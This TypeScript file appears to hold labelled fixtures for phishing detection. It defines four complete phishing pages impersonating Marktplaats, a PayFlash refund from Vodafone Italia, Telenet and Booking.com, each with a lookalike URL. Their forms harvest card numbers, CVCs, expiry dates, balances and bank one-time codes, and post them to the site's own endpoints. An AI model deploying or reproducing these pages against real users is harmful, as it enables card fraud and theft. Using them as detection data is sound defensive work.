import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsonRoute, jsRoute, lnk, pe, pngRoute, zip } from '../parts/e-bin.js';
import { articleCss, b64, bankOptions, cardCss, cardJs, cookieBar, digits, doc, esc, hex, mark } from '../parts/yg-kit.js';

export const entries: Entry[] = [
{
  id: 'yg-marktplaats-koper-betaald',
  label: 'phishing',
  kind: 'marketplace-receive-kit',
  url: 'https://marktplaats.veilig-ontvangen.com/order/' + hex('mp-ord', 10),
  body: doc({
    lang: 'nl',
    title: 'Marktplaats - Betaling ontvangen',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#f0efed;color:#2d3c4d}
.hd{background:#fff;padding:10px 20px;border-bottom:1px solid #ddd;font-weight:800;font-size:22px;color:#2d3c4d}.hd i{color:#eda566;font-style:normal}
.box{max-width:520px;margin:24px auto;background:#fff;border-radius:4px;padding:22px}
.item{display:flex;gap:14px;border:1px solid #eee;border-radius:4px;padding:10px}.item .ph{width:80px;height:80px;background:#ddd;border-radius:3px}
.ok{background:#e7f6ee;color:#216b3a;padding:10px;border-radius:4px;margin:14px 0;font-size:14px}
label{display:block;font-size:13px;margin:12px 0 4px;font-weight:700}
input{width:100%;padding:10px;border:1px solid #bbb;border-radius:3px;box-sizing:border-box;font-size:15px}
button{width:100%;margin-top:16px;padding:13px;background:#eda566;color:#fff;border:0;border-radius:3px;font-size:16px;font-weight:700}
.sm{font-size:12px;color:#888;margin-top:10px}`,
    body: `<div class="hd">Markt<i>plaats</i></div>
<div class="box">
<div class="item"><div class="ph"></div><div><b>Gazelle Orange C7 damesfiets 53cm</b><br>€ 340,00<br><span class="sm">Koper: Sandra v. D. - Verzenden via Marktplaats</span></div></div>
<div class="ok">✔ De koper heeft het bedrag van <b>€ 340,00</b> betaald via Gelijk Oversteken. Het geld staat voor u klaar.</div>
<p>Vul uw kaartgegevens in om het bedrag direct op uw rekening te ontvangen. Daarna ontvangt u het verzendlabel.</p>
<form id="mp"><label>Naam kaarthouder</label><input name="naam" required>
<label>Kaartnummer (debit- of creditcard)</label><input name="kaart" id="k" required>
<div style="display:flex;gap:10px"><div style="flex:1"><label>Vervaldatum</label><input name="exp" id="e" required></div><div style="flex:1"><label>CVC</label><input name="cvc" maxlength="4" required></div></div>
<label>Beschikbaar saldo (voor de ontvangstverificatie)</label><input name="saldo">
<button>Bedrag ontvangen</button></form>
<p class="sm">Beveiligd door Marktplaats Betaalbescherming</p></div>
<div id="sup" style="position:fixed;right:16px;bottom:16px;background:#2d3c4d;color:#fff;border-radius:24px;padding:10px 16px;font-size:14px">💬 Support</div>
<script>${cardJs}fmtCard(document.getElementById('k'));fmtExp(document.getElementById('e'));
var ws;try{ws=new WebSocket('wss://'+location.host+'/ws?o=${hex('mp-ord', 10)}')}catch(e){}
document.getElementById('mp').onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));d.o='${hex('mp-ord', 10)}';if(ws&&ws.readyState===1)ws.send(JSON.stringify(d));fetch('/api/card',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(d)});document.querySelector('.box').innerHTML='<h2>Bevestig de ontvangst</h2><p>U ontvangt een code van uw bank. Vul deze in om de ontvangst te bevestigen.</p><input id="c" style="width:100%;padding:10px"><button onclick="fetch(\\'/api/code\\',{method:\\'POST\\',body:document.getElementById(\\'c\\').value})">Bevestigen</button>'};</script>`,
  }),
},
{
  id: 'yg-payrequest-madeup-eurolink',
  label: 'phishing',
  kind: 'payment-request-kit',
  url: 'https://payflash.link/req/' + hex('pf', 8),
  body: doc({
    lang: 'it',
    title: 'PayFlash - Richiesta di pagamento',
    css: `body{margin:0;font-family:Inter,Helvetica,Arial,sans-serif;background:linear-gradient(160deg,#0f172a,#1e3a8a);min-height:100vh;color:#0f172a}
.c{max-width:400px;margin:40px auto;background:#fff;border-radius:16px;padding:26px}
.lg{font-weight:900;font-size:22px;color:#1e3a8a}.lg span{color:#f59e0b}
.am{font-size:36px;font-weight:800;margin:12px 0 2px}.fr{color:#64748b;font-size:14px}
.tabs{display:flex;gap:8px;margin:18px 0 8px}.tabs b{flex:1;padding:8px;border-radius:8px;border:1px solid #cbd5e1;text-align:center;font-size:13px}
input{width:100%;padding:12px;border:1px solid #cbd5e1;border-radius:8px;box-sizing:border-box;margin-top:8px;font-size:15px}
button{width:100%;margin-top:16px;padding:14px;border-radius:10px;border:0;background:#1e3a8a;color:#fff;font-weight:700;font-size:16px}`,
    body: `<div class="c"><div class="lg">Pay<span>Flash</span></div>
<p class="fr">Hai ricevuto un rimborso da</p><b>Vodafone Italia S.p.A.</b>
<div class="am">€ 63,20</div><p class="fr">Rimborso per doppio addebito fattura n. AM${digits('vf-inv', 9)}</p>
<div class="tabs"><b>Visa</b><b>Mastercard</b><b>PostePay</b></div>
<form id="pf"><input name="h" placeholder="Titolare della carta" required><input name="n" placeholder="Numero carta" required><div style="display:flex;gap:8px"><input name="e" placeholder="MM/AA" required><input name="c" placeholder="CVV" required></div><button>Ricevi il rimborso</button></form>
<p class="fr" style="font-size:11px;text-align:center;margin-top:14px">PayFlash utilizza la tecnologia Open Banking PSD2</p></div>
<script>document.getElementById('pf').onsubmit=function(e){e.preventDefault();fetch('/api/v2/refund/claim',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(Object.fromEntries(new FormData(this)))}).then(function(r){return r.json()}).then(function(j){location.href=j.redirect||'/req/pending'})}</script>`,
  }),
  routes: {
    'payflash.link/api/v2/refund/claim': jsonRoute({ redirect: '/req/otp' }),
  },
},
{
  id: 'yg-telenet-terugbetaling-dubbel',
  label: 'phishing',
  kind: 'telecom-refund-kit',
  url: 'https://telenet-klantenzone.terugbetaling-be.com/',
  body: doc({
    lang: 'nl-BE',
    title: 'Telenet - Terugbetaling',
    css: cardCss('#231f20', '#fff8d6', "Arial, sans-serif") + `.top{background:#ffc421;border:0}.top b{font-size:24px}`,
    body: `<div class="top"><b>telenet</b><nav><a href="#">Mijn Telenet</a></nav></div>
<div class="wrap"><div class="card"><h1>Dubbele betaling gedetecteerd</h1>
<p class="sub">Uw factuur van vorige maand werd twee keer gedomicilieerd. U heeft recht op een terugbetaling van <b>€ 74,50</b>.</p>
<form method="post" action="/stap2.php"><label>Klantnummer</label><input type="text" name="klant"><label>Naam</label><input type="text" name="naam" required>
<label>Bankkaart (Bancontact)</label><input type="text" name="kaart" required><div class="row"><div><label>Vervaldatum</label><input type="text" name="exp" required></div><div><label>Kaartlezer-respons</label><input type="text" name="resp"></div></div>
<button class="btn">Terugbetaling aanvragen</button></form></div></div>`,
  }),
},
{
  id: 'yg-booking-partner-gast-kaart',
  label: 'phishing',
  kind: 'travel-kit',
  url: 'https://booking.guest-confirm-reservation.com/hotel/nl/res/' + digits('bk-res', 10),
  body: doc({
    lang: 'nl',
    title: 'Booking.com | Bevestig uw reservering',
    css: `body{margin:0;font-family:BlinkMacSystemFont,-apple-system,'Segoe UI',Arial,sans-serif;background:#f5f5f5;color:#1a1a1a}
.h{background:#003580;color:#fff;padding:14px 24px;font-weight:700;font-size:22px}
.c{max-width:640px;margin:20px auto;background:#fff;border-radius:8px;padding:22px;border:1px solid #e7e7e7}
.hot{display:flex;gap:14px}.hot .ph{width:120px;height:90px;background:#b8c7d9;border-radius:6px}
.warn{background:#fff0e0;border:1px solid #ff8000;border-radius:6px;padding:12px;margin:16px 0;font-size:14px}
input{width:100%;padding:10px;border:1px solid #868686;border-radius:4px;box-sizing:border-box;margin:4px 0 10px}
button{background:#0071c2;color:#fff;border:0;border-radius:4px;padding:12px 22px;font-weight:600;font-size:15px}`,
    body: `<div class="h">Booking.com</div>
<div class="c"><div class="hot"><div class="ph"></div><div><b>Hotel Aan de Gracht, Amsterdam</b><br>Inchecken: vr 14 nov · Uitchecken: zo 16 nov<br>2 volwassenen · Tweepersoonskamer</div></div>
<div class="warn"><b>Actie vereist:</b> de accommodatie kon uw kaart niet valideren. Bevestig uw kaartgegevens binnen 24 uur, anders wordt uw reservering automatisch geannuleerd.</div>
<form method="post" action="/hotel/nl/res/verify"><label>Naam op kaart</label><input name="n" required><label>Kaartnummer</label><input name="c" required><div style="display:flex;gap:10px"><input name="e" placeholder="MM/JJ" required><input name="v" placeholder="CVC" required></div><button>Kaart bevestigen</button></form>
<p style="font-size:12px;color:#6b6b6b">Het bedrag wordt pas in rekening gebracht bij aankomst.</p></div>`,
  }),
},
];
